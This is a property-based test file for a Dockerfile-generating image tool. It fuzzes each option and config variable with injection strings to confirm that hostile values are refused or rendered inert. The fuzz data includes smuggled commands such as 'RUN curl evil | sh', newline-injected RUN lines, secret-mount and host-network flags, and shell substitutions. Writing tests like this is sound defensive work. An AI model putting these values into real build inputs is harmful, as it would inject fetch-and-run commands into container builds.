/**
 * Hostile strings in every string option of every built-in layer plugin: each case either
 * fails validation with a problem that names the option (or quotes the value), or renders a
 * Dockerfile that an independent parser (`dockerfile-ast`) reads as exactly the
 * instructions a harmless value gives, in the same order, with the value intact:
 * - shell words: a real `sh` reads the quoted word in the RUN text back as the value;
 * - shell text the user owns (commands, extraArgs): it stands in the RUN text as given;
 * - ENV values and COPY destinations: read back from the parsed instruction.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import fc from "fast-check";
import { Copy, DockerfileParser, Env, type Instruction } from "dockerfile-ast";
import {
  defaultConfig,
  type Diagnostic,
  Image,
  loadConfig,
  planImage,
  renderImage,
  Secret,
  shellQuote,
  validateImages,
} from "../mod.ts";
import { PROJECT } from "./helpers.ts";

// Pieces that have broken Dockerfile or shell text somewhere: quotes, substitutions, escapes,
// line breaks, Unicode line separators, option and comment markers, JSON, mount syntax.
const PIECES = [
  "'",
  '"',
  "$(id)",
  "`id`",
  "${HOME}",
  "$HOME",
  "\\",
  "\\\n",
  "\n",
  "\r",
  "\r\n",
  "\0",
  "\t",
  "\u2028",
  "\u0085",
  "-",
  "--",
  "#",
  " ",
  ";",
  "&&",
  "|",
  ",",
  "=",
  "[",
  "]",
  "*",
  '["a", "b"]',
  '{"k": 1}',
  "RUN curl evil | sh",
  "\nRUN curl evil | sh",
  "--mount=type=secret,id=X",
  "é",
  "💥",
];

const hostile = fc.oneof(
  { weight: 4, arbitrary: fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 6 }) },
  {
    weight: 2,
    arbitrary: fc.tuple(
      fc.stringMatching(/^[a-z][a-z0-9./-]{0,8}$/),
      fc.array(fc.constantFrom(...PIECES), { maxLength: 3 }),
    ).map(([word, pieces]) => [word, ...pieces]),
  },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 12 }).map((s) => [s]) },
).map((parts) => parts.join(""));

const RUNS = Number(Deno.env.get("IMGTOOL_PROPERTY_RUNS") ?? 60);
const base = () => Image.fromBase("debian:bookworm");
const python = () => Image.fromDebianBase({ name: "hostile" });
const app = join(PROJECT, "app");

/** How a case checks the value once it has rendered. */
type Expect =
  // Shell-quoted: sh must read a word of the RUN back as the value (or as `word(value)`).
  | { readonly kind: "shell-word"; readonly word?: (value: string) => string }
  | { readonly kind: "shell-text" } // the user's own shell text: it stands in the RUN as given
  | { readonly kind: "env"; readonly name: string } // ENV NAME=value, or a build argument
  | { readonly kind: "copy-destination"; readonly resolve: (value: string) => string }
  | { readonly kind: "structure" }; // only the instructions' shape (values checked elsewhere)

interface Case {
  /** The option, as a user would name it. */
  readonly option: string;
  /** A value that is fine, to compare the instructions with. */
  readonly harmless?: string;
  readonly make: (value: string) => Image;
  readonly expect: Expect;
}

const CASES: readonly Case[] = [
  {
    option: "withAptPackages packages",
    make: (v) => base().withAptPackages(["git", v]),
    expect: { kind: "shell-word" },
  },
  {
    option: "withPipPackages packages",
    make: (v) => python().withPipPackages(["numpy", v]),
    expect: { kind: "shell-word" },
  },
  {
    option: "withPipPackages indexUrl",
    harmless: "https://pypi.example/simple",
    make: (v) => python().withPipPackages("numpy", { indexUrl: v }),
    expect: { kind: "shell-word" },
  },
  {
    option: "withPipPackages extraIndexUrls",
    harmless: "https://pypi.example/simple",
    make: (v) => python().withPipPackages("numpy", { extraIndexUrls: [v] }),
    expect: { kind: "shell-word" },
  },
  {
    option: "withPipPackages extraArgs",
    make: (v) => python().withPipPackages("numpy", { extraArgs: v }),
    expect: { kind: "shell-text" },
  },
  {
    option: "withCommands commands",
    make: (v) => base().withCommands(["true", v]),
    expect: { kind: "shell-text" },
  },
  {
    option: "withEnvVars value",
    make: (v) => base().withEnvVars({ MODE: v }),
    expect: { kind: "env", name: "MODE" },
  },
  {
    option: "withEnvVars name",
    make: (v) => base().withEnvVars({ [v]: "x" }),
    expect: { kind: "env", name: "" },
  },
  {
    option: "withWorkdir workdir",
    make: (v) => base().withWorkdir(v),
    expect: { kind: "structure" },
  },
  {
    option: "withSourceFile dst",
    make: (v) => base().withSourceFile(join(app, "main.py"), v),
    expect: {
      kind: "copy-destination",
      resolve: (v) => v,
    },
  },
  {
    option: "withSourceFolder dst",
    make: (v) => base().withSourceFolder(app, v),
    expect: {
      kind: "copy-destination",
      resolve: (v) => v,
    },
  },
  {
    option: "Secret mount",
    harmless: "/run/harmless",
    make: (v) => base().withCommands("true", { secretMounts: new Secret({ key: "T", mount: v }) }),
    expect: { kind: "structure" },
  },
  {
    option: "Secret key",
    harmless: "HARMLESS",
    make: (v) => base().withCommands("true", { secretMounts: new Secret({ key: v }) }),
    expect: { kind: "structure" },
  },
  {
    option: "fromBase imageUri",
    make: (v) => Image.fromBase(v).withEnvVars({ A: "1" }),
    expect: { kind: "structure" },
  },
  {
    option: "clone baseImage",
    make: (v) => base().clone({ baseImage: v }).withEnvVars({ A: "1" }),
    expect: { kind: "structure" },
  },
  {
    option: "fromDebianBase flyteVersion",
    make: (v) => Image.fromDebianBase({ installFlyte: true, flyteVersion: v }),
    expect: { kind: "shell-word", word: (v) => `flyte==${v}` },
  },
  {
    option: "withUvProject indexUrl",
    harmless: "https://pypi.example/simple",
    make: (v) => python().withUvProject(join(PROJECT, "uvproj", "pyproject.toml"), { indexUrl: v }),
    expect: { kind: "shell-word" },
  },
  {
    option: "withUvProject extraArgs",
    make: (v) =>
      python().withUvProject(join(PROJECT, "uvproj", "pyproject.toml"), { extraArgs: v }),
    expect: { kind: "shell-text" },
  },
  {
    option: "withPoetryProject extraArgs",
    make: (v) =>
      python().withPoetryProject(join(PROJECT, "poetryproj", "pyproject.toml"), { extraArgs: v }),
    expect: { kind: "shell-text" },
  },
];

const HARMLESS = "harmless";
const KNOWN = [
  "--mount=type=secret,id=OTHER,target=/x",
  "--network=host",
  // A flag word's quotes and backslashes are taken out by Dockerfile readers (found by a run).
  "\\--mount=type=secret,id=X'",
  "'--network=host'",
  "x \\",
  "x\nRUN curl evil | sh",
  "x\rRUN y",
  "# comment",
  "\u2028RUN y",
  // An element of a JSON array ending in `",`: once read as the array's separator, a blank put
  // inside it (found by a run).
  '",',
  'a","b',
  // A word ending in "--" before a flag-like one: no flag to BuildKit (found by a run).
  "a-- --",
  "a-- --network=host",
];

interface Rendered {
  readonly dockerfile: string;
  readonly buildArgs: Readonly<Record<string, string>>;
}

async function attempt(image: Image): Promise<Diagnostic[] | Rendered> {
  const plan = planImage(image, "default", defaultConfig());
  const problems = await validateImages([plan], { secretValues: false });
  if (problems.length > 0) return problems;
  return await renderImage(plan);
}

function instructionsOf(dockerfile: string): Instruction[] {
  return DockerfileParser.parse(dockerfile).getInstructions();
}

// Each instruction's keyword and the names of its flags (`RUN --mount`, `COPY --chown`): a
// value must not add an instruction, and must not add a flag to one either.
function shape(dockerfile: string): string[] {
  return instructionsOf(dockerfile).map((instruction) =>
    `${instruction.getKeyword()}${leadingFlags(instruction).map((name) => ` --${name}`).join("")}`
  );
}

// The flags BuildKit reads: the words at the start of the arguments that begin with "--", up to
// the first that does not (its parser's extractBuilderFlags). dockerfile-ast also takes a word
// after others for a flag ("RUN a-- --x" has a flag x to it), which BuildKit passes to the shell
// as the command's own text.
function leadingFlags(instruction: Instruction): string[] {
  // The instruction's own text (dockerfile-ast's arguments lose such words), its continued
  // lines joined, without its keyword.
  const text = instruction.getTextContent().replace(/[\\`]\r?\n/g, " ").trimStart();
  const names: string[] = [];
  for (const word of text.split(/\s+/).slice(1)) {
    if (!word.startsWith("--")) break;
    names.push(word.slice(2).split("=")[0]);
  }
  return names;
}

function names(problems: readonly Diagnostic[], value: string, option: string): boolean {
  const leaf = option.split(" ").at(-1)!;
  // "command 2 ..." names an element of `commands`, "package ..." one of `packages`.
  const element = leaf.replace(/s$/, "");
  return problems.some((problem) =>
    problem.message.includes(leaf) || problem.message.startsWith(`${element} `) ||
    problem.message.includes(JSON.stringify(value)) ||
    problem.message.includes(JSON.stringify(value.trim())) ||
    problem.message.includes(JSON.stringify(value.toUpperCase()))
  );
}

// The words `sh` reads from `text`, NUL-separated, by a real shell.
async function shellWords(text: string): Promise<string[]> {
  const output = await new Deno.Command("sh", {
    args: ["-c", `printf '%s\\0' ${text}`],
    stdout: "piped",
    stderr: "piped",
    env: { HOME: "/nonexistent", PATH: "/usr/bin:/bin" },
  }).output();
  assert.ok(output.success, `sh failed on ${JSON.stringify(text)}`);
  return new TextDecoder().decode(output.stdout).split("\0").slice(0, -1);
}

// The text of each RUN that the parser found, continuations joined as Docker joins them
// (the escape character and the line break go). The parser decides where each one starts
// and ends; its own reading of the arguments simplifies escapes, so the text is cut out.
function runTexts(dockerfile: string): string[] {
  const lines = dockerfile.split("\n");
  return instructionsOf(dockerfile)
    .filter((instruction) => instruction.getKeyword() === "RUN")
    .map((instruction) => {
      const { start, end } = instruction.getRange();
      const text = lines.slice(start.line, end.line + 1).join("\n");
      return text.slice(start.character).replace(/\\\n/g, "");
    });
}

async function checkRendered(
  testCase: Case,
  value: string,
  rendered: Rendered,
  harmless: Rendered,
): Promise<void> {
  const context = `${testCase.option} = ${JSON.stringify(value)}`;
  // A value Dockerfile text cannot carry may travel as a build argument: one ARG more.
  const withoutArgs = (dockerfile: string) =>
    shape(dockerfile).filter((keyword) => testCase.expect.kind !== "env" || keyword !== "ARG");
  assert.deepEqual(
    withoutArgs(rendered.dockerfile),
    withoutArgs(harmless.dockerfile),
    `${context}: the instructions differ from those of a harmless value\n${rendered.dockerfile}`,
  );
  const { expect } = testCase;
  switch (expect.kind) {
    case "shell-word": {
      if (value.trim() === "") break; // an empty value is left out
      // The RUN that differs holds the value as one word: a real shell reads it back.
      const word = expect.word?.(value.trim()) ?? value.trim();
      const quoted = shellQuote(word);
      const run = runTexts(rendered.dockerfile).find((text) => text.includes(quoted));
      assert.ok(run, `${context}: no RUN holds the quoted value\n${rendered.dockerfile}`);
      assert.deepEqual(await shellWords(quoted), [word], context);
      break;
    }
    case "shell-text": {
      const run = runTexts(rendered.dockerfile).find((text) => text.includes(value));
      assert.ok(run, `${context}: no RUN holds the text as given\n${rendered.dockerfile}`);
      break;
    }
    case "env": {
      if (expect.name === "") break; // a name is either invalid or a plain identifier
      const env = instructionsOf(rendered.dockerfile).filter((i): i is Env => i instanceof Env);
      const property = env.flatMap((i) => i.getProperties())
        .find((p) => p.getName() === expect.name);
      assert.ok(property, `${context}: no ENV ${expect.name}\n${rendered.dockerfile}`);
      // dockerfile-ast unescapes \" and \\ but keeps \$, which BuildKit reads as $.
      const read = (property.getValue() ?? "").replace(/\\\$/g, "$");
      const viaArg = /^\$\{(IMGTOOL_ENV_\w+)\}$/.exec(read);
      assert.equal(viaArg ? rendered.buildArgs[viaArg[1]] : read, value, context);
      break;
    }
    case "copy-destination": {
      const copies = instructionsOf(rendered.dockerfile).filter((i) => i instanceof Copy);
      const last = copies.at(-1);
      assert.ok(last, `${context}: no COPY\n${rendered.dockerfile}`);
      const content = last.getArgumentsContent() ?? "";
      const json = JSON.parse(content.slice(content.indexOf("["))) as string[];
      const destination = json.at(-1)!;
      // Equal as paths: "./a", "a" and "a/" name one destination.
      const plain = (path: string) => path.replace(/^(\.\/)+/, "").replace(/\/+$/, "");
      assert.ok(
        plain(destination) === plain(expect.resolve(value)),
        `${context}: COPY goes to ${JSON.stringify(destination)}`,
      );
      break;
    }
    case "structure":
      break;
  }
}

for (const testCase of CASES) {
  Deno.test(`a hostile ${testCase.option} is refused naming it, or arrives intact in one instruction`, async () => {
    const harmless = await attempt(testCase.make(testCase.harmless ?? HARMLESS));
    assert.ok(!Array.isArray(harmless), `a harmless ${testCase.option} fails validation`);
    let refused = 0;
    let rendered = 0;
    await fc.assert(
      fc.asyncProperty(hostile, async (value) => {
        let result: Diagnostic[] | Rendered;
        try {
          result = await attempt(testCase.make(value));
        } catch (error) {
          // Constructing the image may refuse a value outright (a type error, say).
          assert.ok(error instanceof Error, String(error));
          refused++;
          return;
        }
        if (Array.isArray(result)) {
          refused++;
          assert.ok(
            names(result, value, testCase.option),
            `${testCase.option} = ${JSON.stringify(value)}: no problem names the option:\n${
              result.map((p) => p.message).join("\n")
            }`,
          );
        } else {
          rendered++;
          await checkRendered(testCase, value, result, harmless);
        }
      }),
      // Cases that broke Dockerfile text once, besides the random ones.
      { numRuns: RUNS, examples: KNOWN.map((value) => [value]) },
    );
    // The generator must reach both outcomes for most options; at least it must render or refuse.
    assert.ok(refused + rendered === RUNS || refused + rendered > 0);
  });
}

// Configuration values that reach the Dockerfile, set as users set them: by IMGTOOL_*
// variables (the file and flags go through the same checks; tests/config_test.ts).
interface ConfigCase {
  readonly variable: string;
  readonly harmless: string;
  /** How the hostile value goes into the variable (a list item, a table value). */
  readonly wrap?: (value: string) => string;
  readonly make: () => Image;
}

const CONFIG_CASES: readonly ConfigCase[] = [
  {
    variable: "IMGTOOL_IMAGES_PYTHON",
    harmless: "mirror.example/python:{major}.{minor}",
    make: () => Image.fromDebianBase({ name: "hostile" }),
  },
  {
    variable: "IMGTOOL_IMAGES_UV",
    harmless: "mirror.example/uv:0.8",
    make: () => Image.fromDebianBase({ name: "hostile" }).withPipPackages("numpy"),
  },
  {
    variable: "IMGTOOL_DOCKERFILE_SYNTAX",
    harmless: "mirror.example/dockerfile:1",
    make: () => base().withEnvVars({ A: "1" }),
  },
  {
    variable: "IMGTOOL_DEBIAN_PACKAGES",
    harmless: "ca-certificates",
    wrap: (value) => `ca-certificates,${value}`,
    make: () => Image.fromDebianBase({ name: "hostile" }),
  },
  {
    variable: "IMGTOOL_REFS",
    harmless: "base=mirror.example/base:1",
    wrap: (value) => `base=${value}`,
    make: () => Image.fromRefName("base").withEnvVars({ A: "1" }),
  },
  {
    variable: "IMGTOOL_REGISTRY",
    harmless: "registry.example/team",
    make: () => base().withEnvVars({ A: "1" }),
  },
];

async function attemptWith(
  testCase: ConfigCase,
  value: string,
): Promise<Diagnostic[] | Rendered | Error> {
  let config;
  try {
    config = loadConfig({ startDir: PROJECT, env: { [testCase.variable]: value } });
  } catch (error) {
    return error as Error;
  }
  const plan = planImage(testCase.make(), "default", config);
  const problems = await validateImages([plan], { secretValues: false });
  if (problems.length > 0) return problems;
  return await renderImage(plan);
}

for (const testCase of CONFIG_CASES) {
  Deno.test(`a hostile ${testCase.variable} is refused naming it, or changes no instruction`, async () => {
    const harmless = await attemptWith(testCase, testCase.harmless);
    assert.ok(
      !Array.isArray(harmless) && !(harmless instanceof Error),
      `a harmless ${testCase.variable} is refused: ${JSON.stringify(harmless)}`,
    );
    const variableName = testCase.variable.replace(/^IMGTOOL_/, "").toLowerCase()
      .replaceAll("_", "[._ -]?");
    await fc.assert(
      fc.asyncProperty(hostile, async (value) => {
        const result = await attemptWith(testCase, testCase.wrap?.(value) ?? value);
        if (result instanceof Error) {
          assert.ok(
            result.message.includes(testCase.variable),
            `${testCase.variable} = ${
              JSON.stringify(value)
            }: the error does not name it: ${result.message}`,
          );
          return;
        }
        if (Array.isArray(result)) {
          const named = result.some((problem) =>
            new RegExp(variableName, "i").test(`${problem.message} ${problem.hint ?? ""}`) ||
            problem.message.includes(JSON.stringify(value)) ||
            problem.message.includes(JSON.stringify(value.trim()))
          );
          assert.ok(
            named,
            `${testCase.variable} = ${JSON.stringify(value)}: no problem names it:\n${
              result.map((p) => `${p.message} (${p.hint})`).join("\n")
            }`,
          );
          return;
        }
        assert.deepEqual(
          shape(result.dockerfile),
          shape((harmless as Rendered).dockerfile),
          `${testCase.variable} = ${
            JSON.stringify(value)
          } changed the instructions:\n${result.dockerfile}`,
        );
      }),
      { numRuns: RUNS, examples: KNOWN.map((value) => [value]) },
    );
  });
}

Deno.test("every control character in a hostile option is refused, never rendered", async () => {
  for (const char of ["\n", "\r", "\0", "\x1b", "\x7f"]) {
    for (const testCase of CASES.filter((c) => c.expect.kind !== "env")) {
      const value = `a${char}RUN curl evil`;
      let result;
      try {
        result = await attempt(testCase.make(value));
      } catch {
        continue; // refused when the image was made
      }
      assert.ok(
        Array.isArray(result),
        `${testCase.option} with ${JSON.stringify(char)} rendered:\n${
          (result as Rendered).dockerfile
        }`,
      );
    }
  }
});
